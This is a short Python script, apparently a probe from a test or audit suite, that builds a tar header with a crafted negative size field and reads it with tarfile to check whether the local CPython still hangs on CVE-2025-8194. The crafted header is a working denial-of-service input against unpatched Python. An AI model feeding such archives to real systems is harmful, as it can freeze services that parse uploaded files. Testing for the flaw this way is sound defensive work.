# aim = "time"
# tries = "Reads an archive whose header has it go back for ever (CVE-2025-8194)."
# control = "mended in CPython 3.11.14; this machine's may have it or not"
import io
import tarfile

member = tarfile.TarInfo("a")
raw = bytearray(member.tobuf(tarfile.GNU_FORMAT))
raw[124:136] = b"\xff" * 10 + b"\xfe\x00"
raw[148:156] = b"        "
raw[148:156] = b"%06o\0 " % sum(raw[:512])
for _ in tarfile.open(fileobj=io.BytesIO(bytes(raw) * 4)):
    pass
